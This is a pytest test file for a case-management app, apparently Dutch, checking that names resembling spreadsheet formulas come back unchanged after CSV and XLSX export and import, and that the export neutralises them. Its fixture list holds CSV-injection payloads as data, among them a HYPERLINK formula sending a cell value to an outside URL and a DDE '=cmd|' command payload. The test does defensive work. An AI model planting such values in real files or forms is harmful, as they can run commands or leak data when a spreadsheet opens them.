"""Issue 11 §1 through the command line: names typed in the app that a spreadsheet would run
as a formula come back exactly as typed after `ret-desk export cases` (CSV and XLSX) and
`ret-desk import cases` into a fresh store; the export itself carries no formula."""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from datetime import date

import pytest
from sqlalchemy import select

from ret_desk.cli import main
from ret_desk.db.models import Case, Youth
from ret_desk.db.store import Store
from ret_desk.services.cases import intake
from tests.support.drafts import draft
from tests.test_cli import PW

# (family name, given name) as a coordinator types them in the referral form
TYPED = [
    ('=HYPERLINK("http://x?"&A1,"klik")', "+31 6 12345678"),
    ("-5", "@SUM(A1)"),
    ("'t Hart", "'=niet"),  # a quote of its own, also before a formula character
    ("#N/A", "=1+1"),
    # a cell Dutch Excel (';') or English Excel (',') would split off inside the name
    ("Jansen;=cmd|' /C calc'!A0", "Zie,+cmd"),
]


@pytest.fixture
def cli(monkeypatch, capsys):
    monkeypatch.setenv("RET_DESK_PASSWORD", PW)

    def run(url: str, *args: str) -> tuple[int, str, str]:
        monkeypatch.setattr(sys, "stdin", io.StringIO(PW + "\n" + PW + "\n"))
        code = main(["--db", url, *args])
        out = capsys.readouterr()
        return code, out.out, out.err

    return run


def _store_with_users(cli, url: str) -> None:
    assert cli(url, "user", "add", "beheer", "--role", "admin")[0] == 0
    assert cli(url, "--user", "beheer", "user", "add", "anne", "--role", "coordinator")[0] == 0


def _names(url: str) -> list[tuple[str, str]]:
    store = Store.open(url, upgrade=False)
    try:
        with store.uow() as uow:
            names = select(Youth.family_name, Youth.given_name).join(Case, Case.youth_id == Youth.id)
            rows = uow.session.execute(names.order_by(Case.id))
            return [tuple(r) for r in rows]
    finally:
        store.close()


def _register(url: str, names: list[tuple[str, str]]) -> None:
    """Through the intake service the referral form uses (so its own trimming applies)."""
    from ret_desk.services.admin import accounts

    store = Store.open(url, upgrade=False)
    try:
        anne = accounts.authenticate(uow=store.uow(), username="anne", password=PW)
        for i, (family, given) in enumerate(names):
            intake.register_referral(
                uow=store.uow(), actor=anne, draft=draft(
                    family_name=family, given_name=given, bsn=None, birth_date=date(2010, 1, 1 + i)
                ),
            )  # fmt: skip
    finally:
        store.close()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_names_that_look_like_formulas_come_back_exactly(cli, tmp_path, suffix):
    # Given a store where these names were typed in
    source, fresh = (f"sqlite:///{tmp_path / name}" for name in ("bron.sqlite", "nieuw.sqlite"))
    _store_with_users(cli, source)
    _register(source, TYPED)
    assert _names(source) == TYPED
    # When they are exported, and the export is imported into a fresh store
    out = tmp_path / f"uit{suffix}"
    code, _, err = cli(source, "--user", "anne", "export", "cases", str(out))
    assert code == 0, err
    _store_with_users(cli, fresh)
    code, stdout, err = cli(fresh, "--user", "anne", "import", "cases", str(out))
    # Then every name is back as it was typed
    assert code == 0 and "5 casussen geïmporteerd" in stdout, err
    assert _names(fresh) == TYPED
    # and the export itself holds text only
    if suffix == ".csv":
        with out.open(encoding="utf-8", newline="") as handle:
            written = [(r["achternaam"], r["voornaam"]) for r in csv.DictReader(handle)]
        assert written[0] == ("'" + TYPED[0][0], "'" + TYPED[0][1])
        assert written[2] == ("'t Hart", "''=niet") and written[3] == ("#N/A", "'=1+1")
        assert written[4] == ("Jansen;'=cmd|' /C calc'!A0", "Zie,'+cmd")
    else:
        with zipfile.ZipFile(out) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet


def test_a_leading_tab_or_return_is_trimmed_by_the_form_so_it_never_reaches_an_export(cli, tmp_path):
    """The referral form trims names (domain/referral.normalised), so a name cannot start
    with a tab or a carriage return; the export rule for them is tested on values put in
    the store directly (tests/db/test_export_cells.py)."""
    url = f"sqlite:///{tmp_path / 'bron.sqlite'}"
    _store_with_users(cli, url)
    _register(url, [("\tTab", "\rTerug")])
    assert _names(url) == [("Tab", "Terug")]
